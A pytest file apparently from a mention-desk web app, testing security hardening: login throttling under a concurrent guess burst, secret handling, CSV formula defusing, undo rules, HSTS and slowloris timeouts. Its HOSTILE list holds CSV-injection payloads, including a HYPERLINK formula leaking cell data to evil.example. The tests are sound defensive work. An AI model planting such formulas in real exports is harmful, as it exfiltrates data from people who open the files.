"""Hardening (issue 21): the log-in throttle under a concurrent burst, secrets that are
not settings, formulas in every CSV, undo under claims, and the operator's checks.
Each test is an attack or a slip that once worked, written as the rule that now holds."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from config.settings import BrandSettings, Settings, TopicSettings, WebSettings
from core.clock import ManualClock
from store import users
from store.db import Store
from store.schema import open_store
from tests.support.argon import CountingHasher
from web import auth
from web.server import WebService

PASSWORD = "correct horse battery"
SECRET = "test-secret-" + "h" * 24


@pytest.fixture
def store(tmp_path) -> Iterator[Store]:
    s = open_store(tmp_path / "desk.db")
    yield s
    s.close()


def _settings(**web: Any) -> Settings:
    return Settings(brands=[BrandSettings(name="Acme", handles=["acme"])],
                    topics=[TopicSettings(name="delivery")], web=WebSettings(**web))


# --- 1. the throttle under a burst ---------------------------------------------------------

def test_a_burst_of_concurrent_guesses_is_counted_and_bounded(store, monkeypatch) -> None:
    """44 wrong guesses on one account from one address, released together against a
    real server: most answers are 429 at once and few argon2 checks ever run together;
    every guess that was checked counted from its start, so the guesses sent one by one
    after the burst reach the throttle (5 per account and address) that much sooner,
    and then the right password gets nobody in. (The right password used to be sent
    inside the burst, as its 41st thread: the scheduler may run that thread first, and
    then it rightly got in.)"""
    clock = ManualClock()
    users.add(store, "alice", "agent", auth.hash_password(PASSWORD), clock.now())
    hasher = CountingHasher()
    monkeypatch.setattr(auth, "_hasher", hasher)
    service = WebService(store, _settings(), clock, host="127.0.0.1", port=0,
                         session_secret=SECRET)
    service.start()
    try:
        clients = [httpx.Client(base_url=service.url, timeout=60) for _ in range(45)]
        tokens = [re.search(r'name="csrf-token" content="([^"]+)"',
                            c.get("/login").text).group(1) for c in clients]
        gate = threading.Barrier(44)
        statuses: list[int] = [0] * 45

        def attempt(i: int) -> None:
            password = PASSWORD if i == 44 else f"wrong guess {i}"
            if i < 44:
                gate.wait()
            statuses[i] = clients[i].post("/login", data={
                "csrf_token": tokens[i], "username": "alice", "password": password,
                "next": "/queue"}).status_code

        threads = [threading.Thread(target=attempt, args=(i,)) for i in range(44)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        late = []  # wrong guesses one by one, until the throttle answers
        while not late or late[-1] != 429:
            late.append(clients[44].post("/login", data={
                "csrf_token": tokens[44], "username": "alice",
                "password": f"late guess {len(late)}", "next": "/queue"}).status_code)
            assert len(late) <= 6
        attempt(44)  # the right password, after them
        for c in clients:
            c.close()
    finally:
        service.stop()
    assert statuses[44] == 429  # gets nobody in
    statuses = statuses[:44]
    assert statuses.count(401) + late.count(401) == 5  # the burst's checks counted
    assert set(statuses) <= {401, 429}
    assert statuses.count(429) >= 35
    assert statuses.count(401) <= 5  # never more full checks than the sequential limit
    assert hasher.peak <= auth.MAX_CHECKS_PER_ACCOUNT
    assert hasher.calls == statuses.count(401) + late.count(401)  # no check for a 429


# --- 2. secrets are not settings -------------------------------------------------------------

def test_the_metrics_token_set_before_start_is_a_secret_not_a_setting(
        tmp_path, make_settings, monkeypatch, capsys) -> None:
    """MENTIONDESK_METRICS_TOKEN (a registered secret) set in the environment before the
    configuration is read: commands run, and /metrics wants the token."""
    import main as entry
    from pipeline.settings import load_settings as load

    make_settings()
    monkeypatch.setenv("MENTIONDESK_METRICS_TOKEN", "scrape-token")
    monkeypatch.setenv("MENTIONDESK_SESSION_SECRET", SECRET)
    settings = load(tmp_path / "config.toml")  # the real environment, token included
    assert entry.main(["--config", str(tmp_path / "config.toml"), "db", "migrate"],
                      ManualClock()) == 0, capsys.readouterr().err
    from starlette.testclient import TestClient

    from web.app import create_app

    store = open_store(settings.app.database)
    client = TestClient(create_app(store, settings, ManualClock(), SECRET))
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", headers={"authorization": "Bearer é".encode()}).status_code == 401
    assert client.get("/metrics", headers={"authorization": b"Bearer \xff\xfe"}
                      ).status_code == 401
    ok = client.get("/metrics", headers={"authorization": "Bearer scrape-token"})
    assert ok.status_code == 200 and "mentiondesk_queue_depth" in ok.text
    store.close()


# --- 3. formulas in every CSV ----------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)", "-2+3",
           "@cmd", "\tTAB", "\rCR"]


def test_the_one_csv_writer_defuses_formulas_and_keeps_numbers() -> None:
    import csv
    import io

    from core import csvfile

    text = csvfile.write(["handle", "net"], [[h, -0.25] for h in HOSTILE] + [["ok", None]])
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert all(r[1] == "-0.25" for r in rows[1:-1]) and rows[-1] == ["ok", ""]


def test_dashboard_exports_and_the_report_carry_no_formulas(store, tmp_path) -> None:
    """Author handles that are formulas, out of /dashboard/authors.csv and every other
    dashboard CSV, and out of `main.py report --format csv`."""
    import csv
    import io
    from datetime import UTC, datetime

    from starlette.testclient import TestClient

    from metrics import report
    from pipeline.jobs import refresh_metrics
    from tests.support.metrics import seed
    from web.app import create_app

    now = datetime(2026, 11, 23, 18, 0, tzinfo=UTC)
    for i, handle in enumerate(HOSTILE[:3]):
        seed(store, datetime(2026, 11, 22, 10, i, tzinfo=UTC), handle=handle,
             followers=1000 + i, brand="Acme")
    refresh_metrics(store, now, 60)
    users.add(store, "vera", "viewer", auth.hash_password(PASSWORD), now)
    client = TestClient(create_app(store, _settings(), ManualClock(now), SECRET))
    page = client.get("/login")
    token = re.search(r'name="csrf-token" content="([^"]+)"', page.text).group(1)
    assert client.post("/login", data={"csrf_token": token, "username": "vera",
                                       "password": PASSWORD}).status_code in (200, 303)
    query = "?since=2026-11-20&until=2026-11-23"
    authors = client.get("/dashboard/authors.csv" + query)
    assert authors.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(authors.text)) for c in row]
    for handle in HOSTILE[:3]:
        assert "'" + handle in cells and handle not in cells
    for name in re.findall(r'href="/dashboard/(\w+)\.csv', client.get("/dashboard" + query
                                                                      ).text):
        for row in csv.reader(io.StringIO(client.get(f"/dashboard/{name}.csv{query}").text)):
            assert not any(c[:1] in ("=", "+", "@") for c in row), (name, row)
    exported = report.to_csv([{"period": "2026-11-22", "brand": "=1+1", "platform": "x"}])
    assert "'=1+1" in exported


# --- 4. undo follows the claim rules ---------------------------------------------------------

def test_a_colleague_cannot_undo_an_approval_on_a_mention_someone_holds(
        store, tmp_path) -> None:
    from core.errors import ActionRefused
    from pipeline.actions import Actions
    from tests.support.actions import desk_settings, draft_row, seed

    clock = ManualClock()
    desk = Actions(store, desk_settings(tmp_path), clock)
    mention_id, draft_id = seed(store, clock, "@acme parcel lost",
                                "Hi @casey, sorry about that. Please DM us the order number.")
    desk.claim(mention_id, "agent1")
    desk.approve(draft_id, "agent1", 1)
    with pytest.raises(ActionRefused, match="agent1 is working on this mention"):
        desk.undo(draft_id, "agent2")
    assert draft_row(store, draft_id)["status"] == "approved"
    desk.claim(mention_id, "agent2", takeover=True)  # taken over, as for any other action
    assert desk.undo(draft_id, "agent2").version == 2
    desk.approve(draft_id, "agent2", 2)
    assert desk.undo(draft_id, "agent2").version == 3  # the holder's own undo


# --- 6. operations -----------------------------------------------------------------------------

def _desk(make_settings, clock: ManualClock, lines: list[dict]) -> Any:
    from tests.support import Grumpy
    from tests.support.pipeline import make_pipeline

    pipeline = make_pipeline(make_settings(lines), Grumpy(), clock)
    pipeline.run_once()
    return pipeline


def test_doctor_flags_a_reply_stuck_approved_and_slas_at_risk(make_settings, tmp_path,
                                                              capsys) -> None:
    """The daemon stopped with a reply approved inside its undo window: doctor says so
    once the window and a margin have passed, and when mentions near their SLA."""
    import main as entry
    from store import drafts
    from tests.support import mention_line

    clock = ManualClock()
    desk = _desk(make_settings, clock, [mention_line("1", "@lumora my order never arrived"),
                                        mention_line("2", "@lumora charged twice")])
    first = desk.store.query("SELECT id, version FROM drafts ORDER BY id")[0]
    drafts.approve(desk.store, first["id"], "ann", first["version"], clock.now())

    def doctor() -> tuple[int, str]:
        code = entry.main(["--config", str(tmp_path / "config.toml"), "doctor"], clock)
        return code, capsys.readouterr().out

    code, out = doctor()
    assert code == 0 and out.rstrip().endswith("ok")  # inside its undo window: fine
    clock.advance(minutes=5)
    code, out = doctor()
    assert code == 1 and "PROBLEM    1 approved reply not sent" in out
    assert "daemon" in out and "SLA" not in out
    clock.advance(minutes=50)  # 55 of the 60 minutes: within web.sla_warn_minutes
    code, out = doctor()
    assert "PROBLEM    2 mentions waiting for a first reply: 0 past the 60-minute SLA, " \
           "2 within 10 minutes of it" in out
    clock.advance(minutes=10)
    code, out = doctor()
    assert "2 past the 60-minute SLA" in out and code == 1


def test_poll_once_says_which_config_and_database_and_why_nothing_came(
        make_settings, tmp_path, monkeypatch, capsys) -> None:
    """From a folder without a config: the demo default, said out loud, and a replay
    source that has released nothing yet says why."""
    import main as entry
    from tests.support import Grumpy, mention_line
    from tests.support.pipeline import make_pipeline

    clock = ManualClock()
    settings = make_settings([mention_line("1", "@lumora later", offset=30)])
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("MENTIONDESK_CONFIG", raising=False)
    monkeypatch.setattr(entry, "build_pipeline",
                        lambda s, c: make_pipeline(settings, Grumpy(), c))
    assert entry.main(["poll", "--once"], clock) == 0
    out = capsys.readouterr().out
    assert "config     " in out and "demo.toml" in out and "MENTIONDESK_CONFIG" in out
    assert f"database   data/demo.db ({tmp_path / 'data' / 'demo.db'})" in out
    assert "source     replay (replay): 0 new" in out and "offset_s" in out
    clock.advance(seconds=31)
    assert entry.main(["poll", "--once"], clock) == 0
    out = capsys.readouterr().out
    assert "source     replay (replay): 1 new" in out


def test_hsts_when_the_cookie_is_secure(store) -> None:
    from starlette.testclient import TestClient

    from web.app import create_app

    clock = ManualClock()
    plain = TestClient(create_app(store, _settings(), clock, SECRET)).get("/healthz")
    assert "strict-transport-security" not in plain.headers
    secure = TestClient(create_app(store, _settings(secure_cookie=True), clock, SECRET),
                        base_url="https://testserver").get("/healthz")
    assert secure.headers["strict-transport-security"] == "max-age=31536000"


def test_a_client_too_slow_with_its_headers_is_cut_off(store) -> None:
    """Slowloris: a connection that never finishes its request headers is closed after
    web.header_timeout_seconds; a client that sends them keeps its keep-alive."""
    import socket

    service = WebService(store, _settings(header_timeout_seconds=0.5), ManualClock(),
                         host="127.0.0.1", port=0, session_secret=SECRET)
    service.start()
    try:
        slow = socket.create_connection(("127.0.0.1", service.port), timeout=20)
        slow.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")  # never the blank line
        assert slow.recv(1024) == b""  # closed by the server, long before 20 s
        slow.close()
        quick = socket.create_connection(("127.0.0.1", service.port), timeout=20)
        for _ in range(2):  # one connection, kept alive
            quick.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            answer = b""
            while not answer.endswith(b'{"ok":true}'):
                chunk = quick.recv(4096)
                assert chunk, answer
                answer += chunk
            assert answer.startswith(b"HTTP/1.1 200")
        quick.close()
    finally:
        service.stop()


# --- 7. any date ----------------------------------------------------------------------------

def test_a_whole_process_runs_on_the_date_the_environment_sets(make_settings, tmp_path
                                                               ) -> None:
    """MENTIONDESK_CLOCK_OFFSET_DAYS moves every command's clock: mentions fetched just
    now are a day old only for a process living ten years ahead."""
    import os
    import subprocess
    import sys
    from datetime import UTC, datetime

    from core.clock import OffsetClock, process_clock
    from core.errors import ConfigError
    from core.mention import Author, Mention
    from store import mentions
    from tests.support import REPO

    settings = make_settings()
    store = open_store(settings.app.database)
    now = datetime.now(UTC)  # fetched "today", whatever day the suite runs
    mentions.save_poll(store, "replay", "Lumora", [Mention(
        platform="x", platform_id="p1", text="@lumora hi", created_at=now,
        author=Author("u1", "casey", "Casey", 1))], {}, now)
    store.close()

    def purge(**env: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "main.py", "--config", str(tmp_path / "config.toml"), "db",
             "purge", "--days", "1"], cwd=REPO, capture_output=True, text=True, timeout=120,
            env={k: v for k, v in os.environ.items() if k != "MENTIONDESK_CLOCK_OFFSET_DAYS"}
            | env)

    assert "of 0 mentions" in purge().stdout
    assert "of 1 mention older than 1 day\n" in purge(MENTIONDESK_CLOCK_OFFSET_DAYS="3650").stdout
    bad = purge(MENTIONDESK_CLOCK_OFFSET_DAYS="soon")
    assert bad.returncode == 2 and "MENTIONDESK_CLOCK_OFFSET_DAYS" in bad.stderr
    assert isinstance(process_clock({}), type(process_clock({"X": "1"})))
    assert (OffsetClock(-2).now().date() - datetime.now(UTC).date()).days in (-2, -3)
    with pytest.raises(ConfigError):
        process_clock({"MENTIONDESK_CLOCK_OFFSET_DAYS": "inf"})


def test_doctor_on_a_database_that_is_not_there_says_so_and_makes_none(make_settings,
                                                                        tmp_path,
                                                                        capsys) -> None:
    """A mistyped app.database: doctor created an empty, freshly migrated file there and
    said "ok"; now it names the path in one line, exit 1, and leaves nothing behind.
    On a real desk its database line reads as words, not Python values."""
    import main as entry

    make_settings()
    config = str(tmp_path / "config.toml")
    missing = tmp_path / "desk.db"
    assert entry.main(["--config", config, "doctor"]) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err == (f"mentiondesk: doctor: no database at {missing} (app.database;"
                            " the daemon or `main.py db migrate` creates it)\n")
    assert not missing.exists()

    open_store(missing).close()
    assert entry.main(["--config", config, "doctor"]) == 0
    first = capsys.readouterr().out.splitlines()[0]
    assert first == (f"database   {missing}: writable, integrity ok, no migration pending")
